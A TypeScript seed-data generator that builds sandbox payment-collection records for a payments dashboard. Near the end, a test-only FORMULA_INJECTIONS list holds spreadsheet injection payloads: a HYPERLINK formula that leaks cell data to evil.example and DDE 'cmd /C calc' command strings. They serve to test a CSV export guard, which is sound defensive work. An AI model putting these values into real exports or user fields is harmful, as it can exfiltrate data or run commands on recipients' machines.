import type { Random } from './random';

/**
 * Deterministic, realistic records: several currencies, multi-item line items,
 * follow-up on and off, both payable methods, completed collections, unicode
 * names. Values the seed does not name (other statuses, cadences, channels)
 * appear too, because the upstream's sets are open.
 */

/** Bumped when the seed's records change: a sandbox file of another version is seeded again (db.ts). */
export const SEED_VERSION = 7;
const NEWEST = Date.parse('2026-11-20T16:45:12.345Z');

const FIRST_NAMES = [
  'Ada',
  'Chidinma',
  'José',
  'Zoë',
  'Søren',
  'Ọláolúwa',
  'Łukasz',
  'Ayşe',
  'Mei',
  'Nguyễn Văn',
  'Fatima',
  'Kwame',
  'Priya',
  'Ingrid',
  'Tomás',
  'Amaka',
  'Émile',
  'Yusuf',
  'Hana',
  'Oluwaseun',
  'Grace',
  'Björn',
  'Aleksandra',
  'Ngozi',
];
const LAST_NAMES = [
  'Okafor',
  'García',
  'Müller',
  'O’Brien',
  'Nakamura',
  'Adébáyọ̀',
  'Kowalski',
  'Yılmaz',
  '李',
  'An',
  'Mensah',
  'Sharma',
  'Johansson',
  'Eze',
  'Dubois',
  'Abdullahi',
  'Novák',
  'Smith',
  'Ødegaard',
  'Nwosu',
];
const ASCII: Record<string, string> = { ø: 'o', Ø: 'o', ł: 'l', Ł: 'l', ı: 'i', ' ': '.' };

const CURRENCIES = [
  { code: 'NGN', min: 5_000, max: 2_500_000, phone: '+234 80' },
  { code: 'USD', min: 5, max: 9_000, phone: '+1 415' },
  { code: 'EUR', min: 5, max: 8_000, phone: '+49 151' },
  { code: 'GBP', min: 5, max: 6_000, phone: '+44 7700' },
  { code: 'KES', min: 500, max: 400_000, phone: '+254 712' },
  { code: 'GHS', min: 20, max: 40_000, phone: '+233 24' },
  { code: 'JPY', min: 500, max: 900_000, phone: '+81 90' },
] as const;

const PRODUCTS = [
  ['Annual subscription', 'Twelve months of the Pro plan'],
  ['Setup fee', 'One-off onboarding and configuration'],
  ['Consulting hours', 'Billed per hour, see timesheet'],
  ['Delivery', 'Same-day courier within the city'],
  ['Café latte ☕', 'Oat milk, large'],
  ['Tuition — term 2', 'School fees for the second term'],
  ['Spare parts', 'Brake pads and labour'],
  ['Rent', 'Monthly rent, unit 4B'],
  ['Data bundle', '50 GB, valid 30 days'],
  ['Event ticket', 'General admission, Lagos Jazz Night'],
] as const;

const PROVIDERS = [
  ['Paystack', 'paystack'],
  ['Flutterwave', 'flutterwave'],
  ['Stripe', 'stripe'],
  ['Monnify', 'monnify'],
  ['M-Pesa Daraja', 'mpesa'],
  ['Kuda Business', 'kuda'],
  ['Opay', 'opay'],
  ['Wise', 'wise'],
] as const;

export type SeedAccount = {
  id: string;
  name: string;
  key: string;
  collections: number;
  nonIntegrated: number;
  providers: number;
};

export const ACCOUNTS: SeedAccount[] = [
  { id: 'acc_demo', name: 'Demo Store', key: 'sk_sandbox_demo', collections: 257, nonIntegrated: 4, providers: 6 },
  {
    id: 'acc_other',
    name: 'Other Business Ltd',
    key: 'sk_sandbox_other',
    collections: 24,
    nonIntegrated: 2,
    providers: 2,
  },
];

const iso = (ms: number) => new Date(ms).toISOString();
const ascii = (s: string) =>
  [...s.normalize('NFD').replace(/\p{M}/gu, '')]
    .map((c) => ASCII[c] ?? c)
    .join('')
    .replace(/[^A-Za-z.]/g, '')
    .toLowerCase();

function lineItems(r: Random, currency: string, min: number, max: number) {
  const count = r.chance(0.08) ? 0 : r.int(1, 4);
  return Array.from({ length: count }, () => {
    const [name, description] = r.pick(PRODUCTS);
    const quantity = r.chance(0.6) ? 1 : r.int(2, 12);
    return { name, amount: { value: r.int(min, Math.max(min, Math.floor(max / 4))), currency }, description, quantity };
  });
}

function options(r: Random, methods: string[], seq: number) {
  return methods.flatMap((method): Record<string, unknown>[] => {
    if (r.chance(0.5)) return [];
    return method === 'virtual_account'
      ? [
          {
            method,
            bankName: r.pick(['Wema Bank', 'Providus Bank', 'Sterling Bank']),
            accountNumber: String(r.int(1_000_000_000, 9_999_999_999)),
            expiresAt: null,
          },
        ]
      : [{ method, url: `https://pay.example.com/l/${seq.toString(36)}${r.token(6)}`, reusable: r.chance(0.3) }];
  });
}

function events(r: Random, createdAt: number, completed: boolean, channels: string[]) {
  if (!r.chance(0.25) && !completed) return [];
  const out: Record<string, unknown>[] = [];
  let t = createdAt;
  for (const channel of channels.slice(0, r.int(0, channels.length))) {
    t += r.int(10, 600) * 60_000;
    out.push({ type: 'reminder.sent', channel, createdAt: iso(t) });
  }
  if (completed)
    out.push({
      type: 'payment.received',
      createdAt: iso(t + r.int(1, 300) * 60_000),
      method: r.pick(['payment_link', 'virtual_account']),
    });
  return out;
}

export function makeCollection(r: Random, seq: number, createdAt: number, integrated: boolean) {
  const cur = r.pick(CURRENCIES);
  const first = r.pick(FIRST_NAMES);
  const last = r.pick(LAST_NAMES);
  const items = lineItems(r, cur.code, cur.min, cur.max);
  const itemsTotal = items.reduce((sum, i) => sum + i.amount.value * i.quantity, 0);
  const value = items.length && !r.chance(0.1) ? itemsTotal : r.int(cur.min, cur.max);
  const status = r.chance(0.7) ? 'pending' : r.pick(['completed', 'completed', 'expired', 'cancelled']);
  const completed = status === 'completed';
  const methods = r.chance(0.5) ? ['payment_link', 'virtual_account'] : [r.pick(['payment_link', 'virtual_account'])];
  const followOn = r.chance(0.65);
  const channels = r.chance(0.15)
    ? ['whatsapp', 'sms', 'email']
    : r.chance(0.5)
      ? ['whatsapp', 'sms']
      : [r.pick(['whatsapp', 'sms'])];
  const evs = events(r, createdAt, completed, followOn ? channels : []);
  const lastEvent = evs.length ? Date.parse(String(evs[evs.length - 1]!.createdAt)) : createdAt;
  const updatedAt = Math.max(lastEvent, createdAt + (r.chance(0.5) ? 0 : r.int(1, 90) * 60_000));
  return {
    id: `pay_${r.token(22)}`,
    type: integrated ? 'integrated' : r.pick(['standalone', 'invoice']),
    contact: {
      id: `contact_${r.token(18)}`,
      firstName: first,
      lastName: last,
      phone: `${cur.phone} ${r.int(100, 999)} ${r.int(1000, 9999)}`,
      email: `${ascii(first)}.${ascii(last) || 'li'}${r.int(1, 99)}@example.com`,
    },
    reference: r.chance(0.5) ? `INV-2026-${String(seq).padStart(5, '0')}` : `ORD-${r.token(8).toUpperCase()}`,
    amount: { value, currency: cur.code },
    status,
    expiresIn: r.chance(0.8) ? 1440 : r.pick([60, 720, 4320]),
    payable: { enabled: !r.chance(0.1), methods, options: options(r, methods, seq) },
    followUp: {
      enabled: followOn,
      startAfter: r.pick([30, 60, 120, 1440]),
      cadence: r.chance(0.85) ? 'every_10m' : r.pick(['hourly', 'daily']),
      channels,
      tone: r.chance(0.85) ? 'gentle' : 'firm',
    },
    metadata: items,
    events: evs,
    createdAt: iso(createdAt),
    updatedAt: iso(updatedAt),
    completedAt: completed ? iso(updatedAt) : null,
  };
}

export function makeProvider(r: Random, index: number, createdAt: number) {
  const [name, slug] = PROVIDERS[index % PROVIDERS.length]!;
  return {
    id: `prv_${r.token(16)}`,
    name,
    slug,
    enabled: index % 4 !== 3,
    createdAt: iso(createdAt),
    updatedAt: iso(createdAt + r.int(0, 40) * 86_400_000),
  };
}

export type SeedCollection = ReturnType<typeof makeCollection>;
export type SeedProvider = ReturnType<typeof makeProvider>;

/**
 * Records a spreadsheet would run as formulas if an export let them through (OWASP CSV injection):
 * a reference and names starting with each of `=`, `+`, `-`, `@`, tab and carriage return. Test rows only
 * (`testRows`: SANDBOX_TEST_ROWS=1, which e2e/server.ts and the CSV guard's tests set): a newcomer's
 * sandbox holds none, for they look like bugs. With them on they sit among the demo account's recent listed
 * collections, in place of the fields those records would have had (the same records, the same counts).
 */
export const FORMULA_INJECTIONS = [
  { reference: '=HYPERLINK("https://evil.example/?leak="&A1,"Pay now")', firstName: '=1+2', lastName: 'Okafor' },
  { reference: '+SUM(1,1)', firstName: 'Ada', lastName: '+44 Mensah' },
  { reference: "-2+3+cmd|' /C calc'!A0", firstName: '-Mira', lastName: 'Smith' },
  { reference: "@SUM(1+1)*cmd|' /C calc'!A0", firstName: 'Kwame', lastName: '@home' },
  { reference: '\t=1+1', firstName: '\tTab', lastName: 'Eze' },
  { reference: '\r=1+1', firstName: 'Grace', lastName: '\rReturn' },
] as const;
const INJECTIONS_FROM = 30;
export const isFormulaInjection = (reference: string) => FORMULA_INJECTIONS.some((i) => i.reference === reference);

/**
 * Customers who come back (contact pages, contract section 14), chosen by position so the random stream
 * (and every other record) stays as it was: from the 40th record on, every tenth (…7) is the same customer
 * as the tenth before it, up to six collections each; the fourth of each run is that person created again
 * upstream (the same name, e-mail and phone under a new contact id), and the rest of the run follows the
 * new id. One wholesale customer holds every 2,000th record (500 of 1,000,000).
 */
const REGULARS_FROM = 40;
const WHOLESALE_EVERY = 2000;
type SeedContact = ReturnType<typeof makeCollection>['contact'];
function returning(seq: number, own: SeedContact, last: { regular?: SeedContact; wholesale?: SeedContact }) {
  if (seq % WHOLESALE_EVERY === WHOLESALE_EVERY - 1) return (last.wholesale ??= own);
  if (seq < REGULARS_FROM || seq % 10 !== 7) return own;
  const run = Math.floor(seq / 10) % 6;
  const before = last.regular;
  last.regular = run === 0 || !before ? own : run === 3 ? { ...before, id: own.id } : before;
  return last.regular;
}

/**
 * Every account's records, newest first. Non-integrated collections are spread
 * through the account's history so they hide between listed ones; the formula-injection rows only with
 * `testRows`.
 */
export function* generate(r: Random, account: SeedAccount, testRows = false) {
  let t = NEWEST - (account.id === 'acc_demo' ? 0 : 3 * 3_600_000);
  const every = Math.max(1, Math.floor(account.collections / (account.nonIntegrated + 1)));
  const customers: { regular?: SeedContact; wholesale?: SeedContact } = {};
  for (let seq = 0; seq < account.collections; seq++) {
    const integrated = !(seq > 0 && seq % every === 0 && seq / every <= account.nonIntegrated);
    const record = makeCollection(r, account.collections - seq, t, integrated);
    record.contact = { ...returning(seq, record.contact, customers) };
    const injection =
      testRows && account.id === 'acc_demo' && integrated ? FORMULA_INJECTIONS[seq - INJECTIONS_FROM] : undefined;
    if (injection) {
      record.reference = injection.reference;
      record.contact.firstName = injection.firstName;
      record.contact.lastName = injection.lastName;
    }
    yield { kind: 'collection' as const, record };
    t -= r.int(1, 240) * 60_000 + r.int(0, 59_999);
  }
  for (let i = 0; i < account.providers; i++) {
    yield {
      kind: 'provider' as const,
      record: makeProvider(r, i + (account.id === 'acc_demo' ? 0 : 5), NEWEST - (i + 1) * 37 * 86_400_000),
    };
  }
}
